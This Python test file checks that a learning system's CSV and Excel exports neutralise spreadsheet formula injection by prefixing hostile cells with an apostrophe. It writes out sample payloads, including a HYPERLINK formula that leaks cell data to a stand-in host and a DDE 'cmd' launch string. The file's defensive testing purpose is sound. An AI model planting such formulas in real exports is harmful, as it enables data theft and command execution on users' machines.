"""Exports cannot be turned into spreadsheet formulas by what people type (OWASP's CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from lms.core.roles import Role
from lms.core.spreadsheets import safe_cell
from tests.factories import make_learner

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _csv(response) -> list[list[str]]:  # noqa: ANN001
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_a_formula_in_a_name_is_written_as_text_and_a_phone_number_stays_readable(client, db, login_as):
    coordinator = login_as(Role.COORDINATOR)
    learner = make_learner(
        organisation=coordinator.organisation, given_name=HOSTILE, family_name="@SUM(A1:A9)", phone="07700 900001"
    )
    db.commit()
    rows = _csv(client.get("/exports/participants.csv"))
    row = next(row for row in rows if row[0] == f"pathways-{learner.id}")
    assert row[1] == "'" + HOSTILE
    assert row[2] == "'@SUM(A1:A9)"
    assert "+447700900001" in row


def test_outcomes_export_neutralises_typed_text(client, db, login_as):
    coordinator = login_as(Role.COORDINATOR)
    learner = make_learner(organisation=coordinator.organisation)
    db.commit()
    response = client.post(
        f"/learners/{learner.id}/outcomes",
        data={"kind": "volunteering", "outcome_date": "2026-11-02", "organisation_name": "-2+3+cmd|' /C calc'!A0"},
    )
    assert response.status_code == 302
    rows = _csv(client.get("/exports/outcomes.csv?from=2026-11-01&to=2026-11-30"))
    assert rows[1][0] == f"pathways-{learner.id}"
    assert "'-2+3+cmd|' /C calc'!A0" in rows[1]


def test_the_funder_return_in_excel_keeps_formulas_as_text(client, db, login_as):
    from lms.courses import services as course_services
    from lms.courses.inputs import ProgrammeInput

    coordinator = login_as(Role.COORDINATOR)
    programme = course_services.save_programme(
        coordinator.organisation,
        ProgrammeInput(name="=1+1", start_date=date(2026, 4, 1), end_date=date(2027, 3, 31)),
        coordinator,
    )
    db.commit()
    response = client.get(f"/reports/programmes/{programme.id}.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    named = [cell for row in sheet.iter_rows() for cell in row if "=1+1" in str(cell.value)]
    assert named and all(cell.data_type == "s" for cell in named)
    assert "'=1+1" in [cell.value for cell in named]  # the programme's own cell
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    rows = _csv(client.get(f"/reports/programmes/{programme.id}.csv"))
    assert rows[0][0].startswith("'=1+1")


def test_the_rule_itself():
    assert safe_cell("+447700900001") == "+447700900001"
    assert safe_cell("+44 7700 900001") == "+44 7700 900001"
    assert safe_cell("+1+cmd") == "'+1+cmd"
    assert safe_cell("\tx") == "'\tx"
    assert safe_cell("\rx") == "'\rx"
    assert safe_cell("Amal") == "Amal"
    assert safe_cell(-5) == -5
    assert safe_cell("") == ""
